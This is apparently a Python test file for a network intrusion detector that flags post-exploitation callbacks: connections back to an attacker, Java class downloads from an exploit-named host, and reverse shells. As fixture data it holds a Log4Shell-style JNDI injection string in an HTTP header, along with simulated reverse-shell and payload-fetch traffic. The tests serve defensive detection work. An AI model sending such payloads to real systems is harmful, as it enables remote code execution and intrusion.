"""Callbacks: connections, shells and downloads of a host after an attack; similar benign traffic; repetition."""

from __future__ import annotations

from typing import Any

import numpy as np

from sensor.core.addresses import parse
from sensor.core.alert import Alert, Severity
from sensor.core.event import Event
from sensor.core.packet import Packet
from sensor.core.time_units import SECOND
from sensor.detectors.initial_access.callback import _written
from sensor.dissectors.http import HttpRequest
from sensor.dissectors.rat import RatMessage
from tests.detectors.stories import START, Story, alerts_of, detector, inspected, one

CALLBACK = "initial_access.callback"
ATTACKER, VICTIM, NAMED, OTHER = "10.0.0.66", "10.0.0.80", "10.0.0.9", "10.0.0.5"


def packet(at: float, source: str, target: str, port: int) -> Packet:
    return Packet(ts=START + int(at * SECOND), src=parse(source), dst=parse(target), sport=40000, dport=port, proto=6)


def request(
    at: float, source: str, target: str, path: str, *, agent: str = "Mozilla/5.0", odd: tuple[tuple[str, str], ...] = ()
) -> Event:
    return HttpRequest(
        packet(at, source, target, 80), "GET", "www", path, agent, "", "", "", "", -1, False, (), "", odd
    )


def attack(at: float = 0) -> Event:
    return request(at, ATTACKER, VICTIM, "/", odd=(("x-api-version", "${jndi:ldap://10.0.0.9:1389/a}"),))


def flows_after(
    events: list[Event], *servers: str, at: float = 5, first: bool = True, size: int = 1 << 30
) -> list[Alert]:
    """The alerts for flows after events, where the attacker had connected to the victim before."""
    unit = detector(CALLBACK)
    assert inspected(unit, events) == []
    story = Story()
    if first:
        story.flow(0, ATTACKER, VICTIM, 80, answered=True)
    for n, server in enumerate(servers):
        story.flow(at + n, VICTIM, server, 4444, answered=True)
    return alerts_of(unit, story.changes(), size)


def after(event: Event) -> Any:
    """The detector after an event that raised no alert."""
    unit = detector(CALLBACK)
    assert inspected(unit, [event]) == []
    return unit


def test_a_connection_to_the_attacker() -> None:
    """A connection to the attacker raises an alert, whatever the batch size."""
    for size in (1, 1 << 30):
        alert = one(flows_after([attack()], ATTACKER, size=size))
        assert (alert.actor.address, alert.target and alert.target.address) == (parse(ATTACKER), parse(VICTIM))
        assert (alert.severity, alert.numbers["port"], alert.numbers["after_s"]) == (Severity.critical, 4444, 5.0)


def test_code_from_a_host_that_the_exploit_names() -> None:
    """A Java class downloaded from the host in the exploit raises an alert."""
    story = [attack(), request(1, VICTIM, NAMED, "/Exploit.class", agent="Java/1.8.0_51")]
    assert one(inspected(detector(CALLBACK), story)).numbers["called"] == NAMED


def test_a_shell_to_a_third_host() -> None:
    """A reverse shell to a third host raises an alert."""
    alert = one(
        inspected(
            detector(CALLBACK),
            [attack(), RatMessage(packet(2, VICTIM, OTHER, 9001), "command shell", "sh: no job control", True)],
        )
    )
    assert alert.severity == Severity.high
    assert alert.numbers["called"] == OTHER


def test_benign_twins_are_quiet() -> None:
    """No attack before, a late connection, another server, a web page, hosts that connect to each other, and a host
    that tests itself raise no alert.
    """
    assert flows_after([], ATTACKER) == []
    assert flows_after([attack()], ATTACKER, at=400) == []
    assert flows_after([attack()], OTHER, NAMED) == []
    assert flows_after([request(0, ATTACKER, VICTIM, "/index.html")], ATTACKER) == []
    own = request(0, VICTIM, VICTIM, "/", odd=(("x-api-version", "${jndi:ldap://10.0.0.9:1389/a}"),))
    assert alerts_of(after(own), Story().flow(0, VICTIM, VICTIM, 80).flow(1, VICTIM, VICTIM, 80).changes()) == []
    assert (
        inspected(
            detector(CALLBACK),
            [
                attack(),
                request(1, VICTIM, OTHER, "/news", agent="Mozilla/5.0"),
                request(2, OTHER, NAMED, "/a.sh", agent="curl/8"),
            ],
        )
        == []
    )
    assert (
        inspected(
            detector(CALLBACK),
            [RatMessage(packet(2, VICTIM, OTHER, 9001), "command shell", "sh: no job control", True)],
        )
        == []
    )


def test_repetition_is_one_finding() -> None:
    """Repeated connections to the attacker are one alert."""
    assert len(flows_after([attack()], *[ATTACKER] * 50)) == 1


def test_a_row_finds_what_earlier_rows_of_its_batch_wrote() -> None:
    """A row reads the last value that an earlier row of its batch wrote into its slot."""
    numbers = np.random.default_rng(7)
    for count in (1, 2, 50):
        places, slots = numbers.integers(0, 9, count), numbers.integers(0, 9, count)
        want = []
        for row in range(count):
            before = np.flatnonzero(places[:row] == slots[row])
            want += [(row, int(before[-1]))] if len(before) else []
        own, written = _written(places, slots)
        assert list(zip(own.tolist(), written.tolist(), strict=True)) == want
